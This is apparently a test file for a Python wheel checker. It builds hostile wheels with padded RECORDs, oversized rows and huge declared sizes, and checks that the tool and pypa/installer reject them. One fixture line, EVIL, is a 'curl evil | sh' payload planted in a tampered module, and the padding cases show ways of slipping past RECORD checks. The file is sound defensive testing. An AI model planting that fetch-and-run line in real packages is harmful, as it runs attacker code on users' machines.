/**
 * Hostile RECORDs (issue 11 B2–B4) through the real archive reader and the REC checks: padded
 * past the old 16 MiB cut-off, one huge row, a declared size past the hard limit, 100,000 rows
 * through the CLI, and ghost rows or unlisted members whose work must grow linearly (counted,
 * never timed). pypa/installer, the reference installer that verifies RECORD, is the oracle.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";
import { readArtifact } from "../../src/adapters/archives/read-artifact.ts";
import { assembleDistContext } from "../../src/core/checks/dist-context.ts";
import { checkDistribution } from "../../src/core/checks/registry.ts";
import type { ArtifactModel } from "../../src/core/dist/artifact.ts";
import type { Finding } from "../../src/core/findings.ts";
import { pythonJson } from "../helpers/peers.ts";
import { buildWheel, recordHash } from "../helpers/zip-writer.ts";

const dir = mkdtempSync(join(tmpdir(), "slipway-record-"));
after(() => rmSync(dir, { recursive: true, force: true }));
const cli = fileURLToPath(new URL("../../dist/cli.js", import.meta.url));
let counter = 0;

/** Writes the wheel to its own directory; returns its path. */
function save(wheel: { bytes: Uint8Array; filename: string }): string {
  const sub = join(dir, String(counter++));
  const path = join(sub, wheel.filename);
  spawnSync("mkdir", ["-p", sub]);
  writeFileSync(path, wheel.bytes);
  return path;
}

async function check(path: string): Promise<{ model: ArtifactModel; findings: Finding[] }> {
  const model = await readArtifact(path, { display: "x.whl" });
  return { model, findings: checkDistribution(assembleDistContext(model, "x.whl")) };
}

const INSTALLER = `
import json, sys
from installer.sources import WheelFile
path = json.load(sys.stdin)
try:
    with WheelFile.open(path) as wheel:
        wheel.validate_record(validate_contents=True)
    print(json.dumps({"ok": True}))
except Exception as e:
    print(json.dumps({"ok": False, "error": str(e)[:4000]}))
`;
const installer = (path: string) => pythonJson<{ ok: boolean; error?: string }>(INSTALLER, path);

const of = (findings: Finding[], id: string) => findings.filter((f) => f.id === id);
const EVIL = "import os; os.system('curl evil | sh')\n";

test("a tampered wheel whose RECORD is padded past 16 MiB fails REC07, as installer refuses it", async () => {
  const ghost = (i: number) => `pad/${i}.py,sha256=${recordHash("")},0`;
  const rows = 300_000;
  const wheel = buildWheel({
    record: (r) => `${r}${Array.from({ length: rows }, (_, i) => ghost(i)).join("\n")}\n`,
    tamper: { "demo_pkg/__init__.py": EVIL },
  });
  const path = save(wheel);
  const { model, findings } = await check(path);
  assert.equal(model.record?.unusable, undefined);
  assert.equal(of(findings, "REC01").length, 0, "the RECORD is read whole, not skipped");
  const tampered = of(findings, "REC07").filter((f) => f.location.member === "demo_pkg/__init__.py");
  assert.deepEqual(
    tampered.map((f) => f.severity),
    ["error", "error"],
  );
  // 300,000 stale rows: twenty listed, the rest counted in one summary.
  const stale = of(findings, "REC04");
  assert.equal(stale.length, 21);
  assert.match(stale[20]!.message, new RegExp(`: ${rows - 20} more REC04 problems`));
  const verdict = installer(path);
  assert.equal(verdict.ok, false);
  assert.match(verdict.error ?? "", /demo_pkg\/__init__\.py/);
});

test("one 17 MiB RECORD row is REC01 (csv's field limit), as installer refuses it", async () => {
  const path = save(buildWheel({ record: (r) => `${r}demo_pkg/${"x".repeat(17 * 1024 * 1024)}.py,,\n` }));
  const { findings } = await check(path);
  assert.deepEqual(
    of(findings, "REC01").map((f) => f.severity),
    ["error"],
  );
  assert.match(of(findings, "REC01")[0]!.message, /field larger than field limit \(131072\)/);
  const verdict = installer(path);
  assert.equal(verdict.ok, false);
  assert.match(verdict.error ?? "", /field larger than field limit/);
});

test("a RECORD declared larger than the hard limit is REC01, an error, and is not read", async () => {
  const declared = 129 * 1024 * 1024;
  // Incompressible filler keeps the declared total under PyPI's bomb ratio (so this is not ART03).
  const filler = randomBytes(4 * 1024 * 1024);
  const path = save(
    buildWheel({
      files: { "demo_pkg/blob.bin": filler },
      entry: (e) =>
        String(e.name).endsWith("/RECORD")
          ? { ...e, central: { size: declared }, local: { size: declared } }
          : e,
    }),
  );
  const { model, findings } = await check(path);
  assert.ok(!model.findings.some((f) => f.id === "ART03"), "not judged as a bomb");
  const rec01 = of(findings, "REC01");
  assert.deepEqual(
    rec01.map((f) => f.severity),
    ["error"],
  );
  assert.match(
    rec01[0]!.message,
    new RegExp(`it is ${declared} bytes; slipway verifies RECORDs up to 134217728 bytes`),
  );
});

test("check answers a wheel with 100,000 RECORD rows with capped JSON findings, not a RangeError", () => {
  assert.ok(existsSync(cli), "dist/cli.js is missing: run `npm run build` first (npm test does)");
  const path = save(
    buildWheel({
      record: (r) => `${r}${Array.from({ length: 100_000 }, (_, i) => `g${i},,`).join("\n")}\n`,
    }),
  );
  const run = spawnSync(process.execPath, [cli, "check", path, "--json"], { encoding: "utf8" });
  assert.doesNotMatch(run.stderr, /RangeError|internal error/);
  assert.equal(run.status, 1);
  const report = JSON.parse(run.stdout) as { findings: Finding[] };
  const missing = of(report.findings, "REC05");
  assert.equal(missing.length, 21);
  assert.ok(missing.some((f) => /: 99980 more REC05 problems like the ones above/.test(f.message)));
  const stale = of(report.findings, "REC04");
  assert.equal(stale.length, 21);
  assert.ok(stale.some((f) => /: 99980 more REC04 problems like the ones above/.test(f.message)));
});
